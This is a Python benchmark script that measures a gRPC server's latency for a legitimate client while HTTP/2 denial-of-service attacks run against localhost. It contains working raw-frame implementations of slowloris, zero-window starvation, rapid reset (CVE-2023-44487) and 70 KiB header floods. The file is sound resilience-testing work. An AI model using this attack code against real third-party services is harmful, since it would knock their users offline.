"""make bench-hostile: a good client's latency while hostile clients attack, beside its quiet value.

One release groupd on core 0 (benchlib.Server) with `max_connections: 300`; the good client is
h2load on core 1 at a fixed rate (GOOD clients x streams, RPS requests a second per client) on
Health/Check and GetGroupsInfo with a token. Each attack runs in its own process on core 1
(asyncio, raw HTTP/2 frames), starts before the good client connects and runs until it is done:

  quiet        no attacker (the reference)
  slowloris    300 TCP connections that send nothing, reopened as the server closes them
  zero_window  100 connections announcing SETTINGS_INITIAL_WINDOW_SIZE 0, each opening 250 Health
               and GetGroupsInfo calls and never opening a window, reconnecting when ended
  rapid_reset  4 connections opening a stream and resetting it at once, in a loop, each
               reconnecting as soon as the server ends it (CVE-2023-44487; scripts/rapid_reset.py)
  big_header   4 connections sending requests whose one header value is 70 KiB, one after another,
               each reconnecting when the server ends it

For each: the good client's req/s, p50 and p99 (µs), failed requests, its p99 over the quiet p99,
the server's peak RSS during the attack and what the attacker saw (connections, streams, GOAWAYs).
Each variant is measured ROUNDS times in turn; medians are printed as a Markdown table and every
figure goes to .build/bench/hostile-<time>.json.

usage: bench_hostile.py BINARY            (DUR=8 seconds per load, ROUNDS=3, GOOD=4x4, RPS=250,
                                           ATTACKS=a,b to run only those beside quiet)
       bench_hostile.py --attack NAME --port PORT --token T --seconds S --stats FILE   (internal)
"""
import argparse
import asyncio
import json
import os
import shutil
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from benchlib import ROOT, Server, h2load  # noqa: E402
import rapid_reset as rapid_reset_attack  # noqa: E402
from support import CONFIG_TEMPLATE, APP_ID, APP_SECRET, OTHER_APP_ID, OTHER_APP_SECRET  # noqa: E402

import hpack  # noqa: E402

DUR = int(os.environ.get("DUR", "8"))
ROUNDS = int(os.environ.get("ROUNDS", "3"))
GOOD_CLIENTS, GOOD_STREAMS = (int(x) for x in os.environ.get("GOOD", "4x4").split("x"))
RPS = int(os.environ.get("RPS", "250"))
ATTACKS = ["quiet", "slowloris", "zero_window", "rapid_reset", "big_header"]
ONLY = [a for a in os.environ.get("ATTACKS", "").split(",") if a]  # e.g. ATTACKS=rapid_reset (quiet always runs)
MAX_CONNECTIONS = 300
ZERO_WINDOW_CONNECTIONS, ZERO_WINDOW_STREAMS = 100, 250

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
HEALTH = "/grpc.health.v1.Health/Check"
GET_GROUPS_INFO = "/groupd.v1.GroupService/GetGroupsInfo"


# -- the attackers (run in a child process) --------------------------------------------------

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"header_table_size": 1, "max_concurrent_streams": 3, "initial_window_size": 4}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def header_block(path, token=None, extra=()):
    """An HPACK block of literals never indexed: the same bytes are valid for every stream."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1"),
               ("te", "trailers"), ("content-type", "application/grpc")]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    headers += list(extra)
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers], huffman=False)


def headers_frames(stream, block, end_stream=False, max_frame=16384):
    """HEADERS (+ CONTINUATION) frames carrying `block`."""
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    frames = []
    for index, chunk in enumerate(chunks):
        last = index == len(chunks) - 1
        flags = (END_HEADERS if last else 0) | (END_STREAM if end_stream and index == 0 else 0)
        frames.append(frame(HEADERS if index == 0 else CONTINUATION, flags, stream, chunk))
    return b"".join(frames)


class Stats:
    def __init__(self):
        self.connections = 0
        self.closed_by_server = 0
        self.streams = 0
        self.goaways = {}
        self.resets_received = 0

    def frames(self, data):
        """Counts GOAWAY codes and RST_STREAMs in bytes read (best effort: frames may span reads)."""
        offset = 0
        while offset + 9 <= len(data):
            length = int.from_bytes(data[offset:offset + 3], "big")
            kind = data[offset + 3]
            if kind == GOAWAY and offset + 17 <= len(data):
                code = int.from_bytes(data[offset + 13:offset + 17], "big")
                self.goaways[code] = self.goaways.get(code, 0) + 1
            elif kind == RST_STREAM:
                self.resets_received += 1
            offset += 9 + length


async def connections(port, stats, stop):
    """Connections to `port`, counted, one after another until `stop` (when one cannot be opened,
    the listener's backlog is full: a short back-off, then again)."""
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        stats.connections += 1
        yield reader, writer


async def drain_reads(reader, stats, read=True):
    """Reads (and counts) what the server sends until it closes; with read=False, never reads."""
    if not read:
        await asyncio.Event().wait()
    while True:
        data = await reader.read(65536)
        if not data:
            stats.closed_by_server += 1
            return
        stats.frames(data)


async def slowloris(port, token, stop, stats):
    async def one():
        async for reader, writer in connections(port, stats, stop):
            await drain_reads(reader, stats)
            writer.close()
    await asyncio.gather(*(one() for _ in range(MAX_CONNECTIONS)))


async def zero_window(port, token, stop, stats):
    health = header_block(HEALTH)
    info = header_block(GET_GROUPS_INFO, token)

    async def one():
        async for reader, writer in connections(port, stats, stop):
            # Window 0 for every stream: no response DATA can ever be sent; then as many calls as
            # the server lets one connection have, held open.
            writer.write(PREFACE + settings(initial_window_size=0))
            try:
                for index in range(ZERO_WINDOW_STREAMS):
                    stream = 2 * index + 1
                    block, body = (info, INFO_BODY) if index % 2 else (health, b"\0\0\0\0\0")
                    writer.write(headers_frames(stream, block) + frame(DATA, END_STREAM, stream, body))
                stats.streams += ZERO_WINDOW_STREAMS
                await writer.drain()
                await drain_reads(reader, stats)
            except (ConnectionError, OSError):
                pass
            writer.close()
    await asyncio.gather(*(one() for _ in range(ZERO_WINDOW_CONNECTIONS)))


async def rapid_reset(port, token, stop, stats):
    """scripts/rapid_reset.py's attackers (threads), 4 of them, until `stop`."""
    halt = threading.Event()
    threads, attackers = rapid_reset_attack.run_attackers(port, 4, halt, path=HEALTH)
    try:
        await stop.wait()
    finally:  # cancelled when the attack's time is up
        halt.set()
        for thread in threads:
            thread.join(timeout=30)
        stats.connections = sum(a.connections for a in attackers)
        stats.streams = sum(a.streams for a in attackers)
        stats.closed_by_server = sum(a.closed_without_goaway for a in attackers)
        for a in attackers:
            for code, count in a.goaways.items():
                stats.goaways[code] = stats.goaways.get(code, 0) + count


async def big_header(port, token, stop, stats):
    block = header_block(HEALTH, extra=[("x-big", "a" * (70 << 10))])

    async def one():
        async for reader, writer in connections(port, stats, stop):
            # Requests whose one header value is 70 KiB, one after another on the connection
            # (before the per-stream refusal, each ended the connection: then it reconnects).
            writer.write(PREFACE + settings())
            reads = asyncio.ensure_future(drain_reads(reader, stats))
            stream = 1
            try:
                while not reads.done() and not stop.is_set() and stream < 2 ** 31 - 2:
                    writer.write(headers_frames(stream, block) + frame(DATA, END_STREAM, stream, b"\0\0\0\0\0"))
                    stats.streams += 1
                    stream += 2
                    await writer.drain()
            except (ConnectionError, OSError):
                pass
            reads.cancel()
            writer.close()
    await asyncio.gather(*(one() for _ in range(4)))


INFO_BODY = b""


def run_attack(name, port, token, seconds, stats_path, info_body):
    global INFO_BODY
    INFO_BODY = info_body
    stats = Stats()

    async def main():
        stop = asyncio.Event()
        asyncio.get_running_loop().call_later(seconds, stop.set)
        task = asyncio.ensure_future(globals()[name](port, token, stop, stats))
        await stop.wait()
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)

    asyncio.run(main())
    Path(stats_path).write_text(json.dumps(vars(stats)))


# -- the benchmark ------------------------------------------------------------------------------

def config():
    text = CONFIG_TEMPLATE.format(port="{port}", data_dir="{data}", max_message_bytes=4194304,
                                  app=APP_ID, secret=APP_SECRET, other_app=OTHER_APP_ID, other_secret=OTHER_APP_SECRET)
    text = text.replace("durability: full", "durability: {durability}")
    return text.replace("apps:\n", f"max_connections: {MAX_CONNECTIONS}\napps:\n", 1)


def peak_rss(pid, stop, out):
    """Samples the server's VmRSS every 50 ms until `stop`; the peak in KiB goes into out[0]."""
    while not stop.is_set():
        try:
            for line in Path(f"/proc/{pid}/status").read_text().splitlines():
                if line.startswith("VmRSS:"):
                    out[0] = max(out[0], int(line.split()[1]))
        except FileNotFoundError:
            return
        stop.wait(0.05)


def measure(server, attack, work, token, bodies):
    """The good client's figures for each method while `attack` runs (none for quiet)."""
    seconds = (DUR + 2) * len(bodies) + 4
    stats_path = work / f"attack-{attack}.json"
    attacker = None
    if attack != "quiet":
        # Niced, so that the good client sharing its core is not the one the attack slows down.
        attacker = subprocess.Popen(["taskset", "-c", "1", "nice", "-n", "19", sys.executable, __file__, "--attack", attack,
                                     "--port", str(server.port), "--token", token, "--seconds", str(seconds),
                                     "--stats", str(stats_path), "--info-body", str(work / "getgroupsinfo.bin")])
        time.sleep(2)  # a benchmark, not a test: let the attack reach its steady state first
    stop, rss = threading.Event(), [0]
    sampler = threading.Thread(target=peak_rss, args=(server.pid, stop, rss))
    sampler.start()
    results = {}
    try:
        for method, (path, body) in bodies.items():
            results[method] = h2load(server.address, None, path, body, [f"authorization: Bearer {token}"],
                                     GOOD_CLIENTS, GOOD_STREAMS, DUR, work, options=[f"--rps={RPS}"])
    finally:
        stop.set()
        sampler.join()
        if attacker:
            attacker.wait(timeout=seconds + 30)
    alive = server.process.poll() is None
    attacker_stats = json.loads(stats_path.read_text()) if attacker and stats_path.exists() else {}
    return {"methods": results, "peak_rss_kb": rss[0], "alive": alive, "attacker": attacker_stats}


def main():
    binary = Path(sys.argv[1] if len(sys.argv) > 1 else ROOT / ".build" / "release" / "groupd").resolve()
    work = Path(tempfile.mkdtemp(prefix="groupd-bench-hostile-"))
    seed = Server(binary, work, config()).start()
    subprocess.run([sys.executable, str(ROOT / "scripts" / "bench_prepare.py"), str(seed.port), str(work), "1000"], check=True)
    seed.stop()
    token = (work / "token").read_text().strip()
    bodies = {"Health/Check": (HEALTH, (work / "health.bin").read_bytes()),
              "GetGroupsInfo": (GET_GROUPS_INFO, (work / "getgroupsinfo.bin").read_bytes())}
    attacks = [a for a in ATTACKS if not ONLY or a == "quiet" or a in ONLY]
    runs = {attack: [] for attack in attacks}
    for round_ in range(ROUNDS):
        for attack in attacks:
            server = Server(binary, work, config()).start()
            try:
                result = measure(server, attack, work, token, bodies)
            finally:
                server.stop()
            runs[attack].append(result)
            for method, r in result["methods"].items():
                print(f"round {round_ + 1} {attack:12} {method:14} {r['rate']:7.0f}/s p50 {r['p50_us']} µs "
                      f"p99 {r['p99_us']} µs failed {r['failed']} peak RSS {result['peak_rss_kb'] // 1024} MiB "
                      f"alive {result['alive']} attacker {result['attacker']}", flush=True)
    print(f"\nmedian of {ROUNDS} rounds; good client h2load -c {GOOD_CLIENTS} -m {GOOD_STREAMS} --rps {RPS} "
          f"-D {DUR} on core 1, groupd on core 0 (max_connections {MAX_CONNECTIONS}), attacker on core 1\n")
    print("| attack | method | req/s | p50 µs | p99 µs | p99 vs quiet | failed | server peak RSS MiB |")
    print("|---|---|---|---|---|---|---|---|")
    for method in bodies:
        quiet = statistics.median(r["methods"][method]["p99_us"] for r in runs["quiet"])
        for attack in attacks:
            rs = [r["methods"][method] for r in runs[attack]]
            med = lambda key: statistics.median(r[key] for r in rs)
            peak = statistics.median(r["peak_rss_kb"] for r in runs[attack]) / 1024
            if med("calls") == 0:  # h2load's connections were all refused or closed: no call at all
                print(f"| {attack} | {method} | 0 | — | — | locked out | every call | {peak:.0f} |")
                continue
            print(f"| {attack} | {method} | {med('rate'):.0f} | {med('p50_us'):.0f} | {med('p99_us'):.0f} | "
                  f"{med('p99_us') / max(quiet, 1):.2f}× | {sum(r['failed'] for r in rs)} | {peak:.0f} |")
    out = ROOT / ".build" / "bench"
    out.mkdir(parents=True, exist_ok=True)
    (out / f"hostile-{time.strftime('%Y%m%d-%H%M%S')}.json").write_text(json.dumps(runs, indent=1))
    shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "--attack":
        parser = argparse.ArgumentParser()
        parser.add_argument("--attack", choices=ATTACKS[1:], required=True)
        parser.add_argument("--port", type=int, required=True)
        parser.add_argument("--token", required=True)
        parser.add_argument("--seconds", type=float, required=True)
        parser.add_argument("--stats", required=True)
        parser.add_argument("--info-body", required=True)
        args = parser.parse_args()
        run_attack(args.attack, args.port, args.token, args.seconds, args.stats, Path(args.info_body).read_bytes())
    else:
        main()
